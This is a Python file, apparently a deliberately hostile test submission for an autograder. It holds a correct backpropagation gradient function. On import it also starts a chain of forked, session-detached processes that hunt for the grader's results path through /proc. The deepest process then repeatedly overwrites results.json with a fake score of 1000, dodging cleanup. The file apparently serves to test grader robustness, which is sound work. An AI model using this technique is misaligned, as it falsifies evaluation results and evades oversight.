"""HOSTILE: a chain of processes, each in its own session, each waiting on the next (worker -> A -> B -> C -> D).

When a link is killed its child is re-parented only then, so a grader that kills the worker's group and scans
once for orphans misses the deeper links. The last link rewrites a fake results.json every half second for up
to 90 s (bounded). Otherwise correct: honest score 100; no process may be left behind and the fake never wins.
"""

import json
import os
import sys
import time

import numpy as np

FAKE = {"score": 1000, "execution_time": 0, "output": "HACKED: fake results.json from a process chain",
        "output_format": "md", "test_output_format": "md",
        "tests": [{"name": "hacked", "number": "9.9", "score": 1000, "max_score": 1, "status": "passed",
                   "output": "HACKED", "visibility": "visible"}]}
DEPTH = 4



def _ancestors():
    """Pids of this process's parent, grandparent, ... (the grader and run_autograder): /proc/PID/stat is public.

    Only our own ancestors are attacked, never other graders that happen to run on the same machine.
    """
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(str(pid))
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids

def _targets():
    places = ["/autograder/results/results.json"]
    if os.environ.get("AUTOGRADER_ROOT"):
        places.append(os.path.join(os.environ["AUTOGRADER_ROOT"], "results", "results.json"))
    for pid in _ancestors():
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    words = f.read().decode("utf-8", "replace").split("\0")
            except OSError:
                continue
            places += [words[n + 1] for n, w in enumerate(words[:-1]) if w == "--results"]
    return [p for p in dict.fromkeys(places) if os.path.isdir(os.path.dirname(os.path.abspath(p)))]


def _link(depth, places):
    """In a fresh child: a new session, then the next link, then wait (or, at the end, write fakes)."""
    os.setsid()
    if depth < DEPTH:
        try:
            child = os.fork()
        except OSError:
            child = -1
        if child == 0:
            _link(depth + 1, places)
    end = time.time() + 90
    time.sleep(2)
    while time.time() < end:
        if depth == DEPTH:
            for place in places:
                try:
                    with open(place, "w") as f:
                        json.dump(FAKE, f)
                except OSError:
                    pass
        time.sleep(0.5)
    os._exit(0)


def _start_chain():
    places = _targets()
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:
        try:
            sys.stdout = sys.stderr = open(os.devnull, "w")
            _link(1, places)
        finally:
            os._exit(0)


_start_chain()


def sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


def compute_gradients(z, t, W_kj, W_ji, case):
    y = sigmoid(z @ W_kj)
    a = y @ W_ji
    if case == "sigmoid":
        delta = sigmoid(a) - t
    else:
        e = np.exp(a - a.max())
        delta = e / e.sum() * t.sum() - t
    return np.outer(z, (W_ji @ delta) * y * (1 - y)), np.outer(y, delta)
